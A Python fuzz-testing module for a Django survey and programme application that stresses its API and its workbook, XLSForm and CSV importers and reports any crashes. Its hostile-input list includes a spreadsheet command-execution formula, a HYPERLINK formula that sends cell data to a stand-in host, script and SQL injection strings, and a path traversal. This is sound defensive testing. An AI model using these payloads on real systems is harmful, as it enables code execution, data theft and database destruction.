"""Hostile input, measured: schemathesis against the API's schema, hypothesis against the
workbook, XLSForm and response importers. Shared by tests/test_fuzz*.py (bounded, fixed seed)
and scripts/fuzz_report (more examples, prints the inputs tried and the crashes found).

Each run returns a Tally: how many inputs were tried, how many were accepted or refused with a
clear error, and the crashes (an unexpected exception, a server error, a partial write)."""

import datetime as dt
import io
import traceback
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

HOSTILE_TEXT = [
    "",
    " ",
    "=2+3",
    '=HYPERLINK("http://x.example/?d="&B2,"clic")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-1",
    "@SUM(A1)",
    "\t\r\n",
    "<script>alert(1)</script>",
    "'; DROP TABLE activities_action; --",
    "../../etc/passwd",
    "é" * 70,
    "x" * 5000,
    "\x00\x01\x02",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🎉",
    "NaN",
    "1e309",
    "2023-02-30",
    "31/12/2023",
    "9" * 40,
    "Marie Dupont marie@x.fr",
]
HOSTILE_VALUES = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=80),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)),
    st.booleans(),
    st.none(),
)


@dataclass
class Tally:
    target: str
    tried: int = 0
    accepted: int = 0
    refused: int = 0
    statuses: dict = field(default_factory=dict)
    crashes: list = field(default_factory=list)
    samples: list = field(default_factory=list)

    def crash(self, what: str, error: BaseException | str) -> None:
        if isinstance(error, BaseException):
            last = traceback.format_exception_only(type(error), error)[-1].strip()
        else:
            last = error
        self.crashes.append(f"{what[:300]} → {last[:300]}")

    def sample(self, what: str) -> None:
        """A few of the inputs tried, spread over the run (later ones are more hostile)."""
        if self.tried % 9 == 1 and len(self.samples) < 6:
            self.samples.append(what[:200])


def _settings(examples: int, seed: bool):
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=seed,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )


# The API ------------------------------------------------------------------------------------


def fuzz_api(programme, tokens: dict[str, str], ids: dict[str, int], *, examples: int, seed=True):
    """Every operation of the schema, valid and invalid inputs, as each user; 0 server errors."""
    from django.core.signals import request_finished, request_started
    from django.db import close_old_connections

    # As Django's test client does: the WSGI handler must not close the test's connection
    # between requests (the test's transaction would go with it on PostgreSQL).
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        return _fuzz_api(programme, tokens, ids, examples, seed)
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)


def _fuzz_api(programme, tokens, ids, examples, seed):
    import schemathesis
    from django.core.wsgi import get_wsgi_application
    from schemathesis import GenerationMode

    schema = schemathesis.openapi.from_wsgi("/api/v1/schema/?format=json", get_wsgi_application())
    tally = Tally("API (schemathesis)")
    for result in schema.get_all_operations():
        operation = result.ok()
        names = {p.name for p in operation.path_parameters}
        fixed = {"programme": programme.pk} if "programme" in names else {}
        if "id" in names:
            kind = "participation" if "participations" in operation.path else "action"
            kind = "questionnaire" if "questionnaires" in operation.path else kind
            fixed["id"] = ids[kind]
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            strategy = st.tuples(
                operation.as_strategy(generation_mode=mode, path_parameters=fixed),
                st.sampled_from(sorted(tokens)),
            )

            @given(drawn=strategy)
            @_settings(examples, seed)
            def run(drawn):
                case, who = drawn
                headers = {"Authorization": f"Token {tokens[who]}"} if tokens[who] else {}
                body = case.body if isinstance(case.body, dict | list | str | int) else ""
                label = f"{who} {case.method} {case.formatted_path} {case.query or ''} {body!r}"
                tally.tried += 1
                tally.sample(label)
                try:
                    response = case.call(headers=headers)
                except Exception as error:
                    tally.crash(label, error)
                    return
                status = response.status_code
                tally.statuses[status] = tally.statuses.get(status, 0) + 1
                if status >= 500:
                    tally.crash(label, f"HTTP {status}")
                elif status < 400:
                    tally.accepted += 1
                else:
                    tally.refused += 1

            run()
    return tally


# The workbook importer ----------------------------------------------------------------------


def _counts():
    from ancrage.activities.models import Action, Participation, Person, Structure
    from ancrage.programmes.models import Programme
    from ancrage.surveys.models import Answer, Questionnaire, Response
    from ancrage.territories.models import Territory

    models = [Programme, Territory, Structure, Person, Action, Participation]
    models += [Questionnaire, Response, Answer]
    return {m.__name__: m.objects.count() for m in models}


def _write_sheets(sheets: dict, path: Path) -> Path:
    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name[:31] or "x")
        columns = list(dict.fromkeys(key for row in rows for key in row))
        sheet.append(columns)
        for row in rows:
            sheet.append([row.get(column) for column in columns])
    book.save(path)
    return path


@st.composite
def workbook_mutations(draw, base: dict):
    sheets = {name: [dict(row) for row in rows] for name, rows in base.items()}
    said = []
    for _ in range(draw(st.integers(1, 4))):
        what = draw(st.sampled_from(["cell", "cell", "cell", "row", "column", "sheet"]))
        name = draw(st.sampled_from(sorted(sheets)))
        rows = sheets[name]
        if what == "sheet":
            del sheets[name]
            said.append(f"feuille {name} retirée")
            if not sheets:
                break
        elif what == "row":
            rows.append({k: draw(HOSTILE_VALUES) for k in (rows[0] if rows else {"x": 1})})
            said.append(f"{name}: ligne ajoutée {rows[-1]!r}")
        elif what == "column" and rows:
            column = draw(st.sampled_from(sorted(rows[0])))
            for row in rows:
                row.pop(column, None)
            said.append(f"{name}: colonne {column} retirée")
        elif rows:
            index = draw(st.integers(0, len(rows) - 1))
            row = rows[index]
            column = draw(st.sampled_from([*sorted(row), "colonne_inconnue"]))
            row[column] = draw(HOSTILE_VALUES)
            said.append(f"{name}:{index + 2}:{column} ← {row[column]!r}")
    return sheets, "; ".join(said)


def fuzz_workbook(base: dict, folder: Path, *, examples: int, seed=True) -> Tally:
    """Workbooks with hostile cells, rows, columns or sheets: imported whole or refused whole
    with problems (sheet, row, column); never another exception, never a partial write."""
    from django.db import transaction

    from ancrage.programmes.models import Programme
    from ancrage.workbook.importer import WorkbookInvalid, import_workbook

    tally = Tally("Classeur (import)")

    @given(drawn=workbook_mutations(base))
    @_settings(examples, seed)
    def run(drawn):
        sheets, label = drawn
        path = folder / "fuzz.xlsx"
        try:
            _write_sheets(sheets, path)
        except (ValueError, TypeError, IllegalCharacterError):  # openpyxl cannot write it
            return
        tally.tried += 1
        tally.sample(label)
        before = _counts()
        try:
            with transaction.atomic():
                result = import_workbook(path)
        except WorkbookInvalid as refused:
            if not refused.problems or _counts() != before:
                tally.crash(label, "refus sans problème ou écriture partielle")
            tally.refused += 1
        except Exception as error:
            tally.crash(label, error)
        else:
            tally.accepted += 1
            Programme.objects.filter(pk=result.programme.pk).delete()

    run()
    _bytes_inputs(tally, folder, lambda p: import_workbook(p), (WorkbookInvalid,), "fuzz.xlsx")
    return tally


def _bytes_inputs(tally: Tally, folder: Path, load, expected, name: str) -> None:
    """Files that are not what they claim: empty, text, a truncated or random zip."""
    good = io.BytesIO()
    book = Workbook()
    book.active.append(["a", "b"])
    book.save(good)
    for label, data in [
        ("fichier vide", b""),
        ("texte", b"nom;valeur\n"),
        ("zip tronqué", good.getvalue()[:200]),
        ("octets au hasard", bytes(range(256)) * 4),
        ("classeur sans les feuilles attendues", good.getvalue()),
    ]:
        path = folder / name
        path.write_bytes(data)
        tally.tried += 1
        before = _counts()
        try:
            load(path)
        except expected:
            tally.refused += 1
            if _counts() != before:
                tally.crash(label, "écriture partielle")
        except Exception as error:
            tally.crash(label, error)
        else:
            tally.accepted += 1


# XLSForm ------------------------------------------------------------------------------------


@st.composite
def xlsform_mutations(draw, sheets: dict[str, list[list]]):
    sheets = {name: [list(row) for row in rows] for name, rows in sheets.items()}
    said = []
    for _ in range(draw(st.integers(1, 4))):
        name = draw(st.sampled_from(sorted(sheets)))
        rows = sheets[name]
        if not rows:
            continue
        r = draw(st.integers(0, len(rows)))
        if r == len(rows):
            rows.append([draw(HOSTILE_VALUES) for _ in rows[0]])
            said.append(f"{name}: ligne ajoutée {rows[-1]!r}")
            continue
        c = draw(st.integers(0, max(len(rows[r]) - 1, 0)))
        if rows[r]:
            rows[r][c] = draw(
                st.one_of(
                    HOSTILE_VALUES,
                    st.sampled_from(
                        [
                            "select_one",
                            "select_one inconnue",
                            "begin group",
                            "end group",
                            "begin repeat",
                            "integer",
                            "text",
                            "calculate",
                            "${x}",
                            "name",
                            "type",
                        ]
                    ),
                )
            )
            said.append(f"{name}:{r + 1}:{c + 1} ← {rows[r][c]!r}")
    return sheets, "; ".join(said)


def _xlsform_bytes(sheets: dict[str, list[list]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def fuzz_xlsform(programme, template: bytes, folder: Path, *, examples: int, seed=True) -> Tally:
    """XLSForms with hostile cells and rows: loaded, or refused with sheet:row:column lines;
    never another exception, never half a questionnaire."""
    from ancrage.surveys.models import Questionnaire
    from ancrage.surveys.services import questionnaire_create
    from ancrage.surveys.xlsform import XLSFormInvalid

    book = load_workbook(io.BytesIO(template))
    base = {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in book}
    tally = Tally("XLSForm (questionnaire)")

    def load(data: bytes):
        return questionnaire_create(programme=programme, xlsform=data)

    @given(drawn=xlsform_mutations(base))
    @_settings(examples, seed)
    def run(drawn):
        sheets, label = drawn
        try:
            data = _xlsform_bytes(sheets)
        except (ValueError, TypeError, IllegalCharacterError):  # openpyxl cannot write it
            return
        tally.tried += 1
        tally.sample(label)
        before = _counts()
        try:
            questionnaire = load(data)
        except XLSFormInvalid as refused:
            tally.refused += 1
            if not refused.problems or _counts() != before:
                tally.crash(label, "refus sans problème ou écriture partielle")
        except Exception as error:
            tally.crash(label, error)
        else:
            tally.accepted += 1
            Questionnaire.objects.filter(pk=questionnaire.pk).delete()

    run()
    _bytes_inputs(tally, folder, lambda p: load(p.read_bytes()), (XLSFormInvalid,), "q.xlsx")
    return tally


# Response exports ---------------------------------------------------------------------------


@st.composite
def export_mutations(draw, rows: list[list[str]]):
    rows = [list(row) for row in rows]
    said = []
    for _ in range(draw(st.integers(1, 5))):
        what = draw(st.sampled_from(["cell", "cell", "cell", "row", "short", "column"]))
        r = draw(st.integers(0, len(rows) - 1))
        if what == "row":
            rows.append([str(draw(HOSTILE_VALUES)) for _ in rows[0]])
            said.append(f"ligne ajoutée {rows[-1][:6]!r}…")
        elif what == "short":
            rows[r] = rows[r][: draw(st.integers(0, len(rows[r])))]
            said.append(f"ligne {r + 1} coupée à {len(rows[r])} cellules")
        elif what == "column" and rows[0]:
            c = draw(st.integers(0, len(rows[0]) - 1))
            said.append(f"colonne {rows[0][c]} retirée")
            rows = [row[:c] + row[c + 1 :] for row in rows]
        elif rows[r]:
            c = draw(st.integers(0, len(rows[r]) - 1))
            rows[r][c] = str(draw(HOSTILE_VALUES))
            said.append(f"{r + 1}:{c + 1} ← {rows[r][c]!r}")
    separator = draw(st.sampled_from([";", ",", "\t"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]))
    return separator, encoding, rows, "; ".join(said)


def fuzz_responses(questionnaire, export: str, folder: Path, *, examples: int, seed=True):
    """Kobo, ODK and LimeSurvey exports with hostile cells, rows and columns, separators and
    encodings: imported whole or refused whole with file:row:column lines."""
    import csv

    from ancrage.surveys.models import Response
    from ancrage.surveys.responses import ResponsesInvalid, import_responses

    base = list(csv.reader(io.StringIO(export), delimiter=";"))
    tally = Tally("Réponses (Kobo, ODK, LimeSurvey)")

    def load(path: Path):
        return import_responses(questionnaire=questionnaire, path=path)

    @given(drawn=export_mutations(base))
    @_settings(examples, seed)
    def run(drawn):
        separator, encoding, rows, said = drawn
        out = io.StringIO()
        csv.writer(out, delimiter=separator).writerows(rows)
        try:
            data = out.getvalue().encode(encoding)
        except UnicodeEncodeError:
            return  # not writable in that encoding: not an input
        path = folder / "export.csv"
        path.write_bytes(data)
        label = f"{encoding}, séparateur {separator!r} : {said}"
        tally.tried += 1
        tally.sample(label)
        before = _counts()
        try:
            created = load(path)
        except ResponsesInvalid as refused:
            tally.refused += 1
            if not refused.problems or _counts() != before:
                tally.crash(label, "refus sans problème ou écriture partielle")
        except Exception as error:
            tally.crash(label, error)
        else:
            tally.accepted += 1
            Response.objects.filter(pk__in=[r.pk for r in created]).delete()

    run()
    _bytes_inputs(tally, folder, load, (ResponsesInvalid,), "export.csv")
    return tally


def report(tallies: list[Tally]) -> str:
    lines = ["| cible | entrées essayées | acceptées | refusées (erreur claire) | plantages |"]
    lines.append("|---|---|---|---|---|")
    for t in tallies:
        lines.append(f"| {t.target} | {t.tried} | {t.accepted} | {t.refused} | {len(t.crashes)} |")
    for t in tallies:
        if t.statuses:
            codes = ", ".join(f"{k} × {v}" for k, v in sorted(t.statuses.items()))
            lines.append(f"\n{t.target} — réponses HTTP : {codes}")
        lines.append(f"\n{t.target} — exemples d'entrées essayées :")
        lines += [f"  - {s}" for s in t.samples]
        for crash in t.crashes:
            lines.append(f"  PLANTAGE : {crash}")
    return "\n".join(lines)
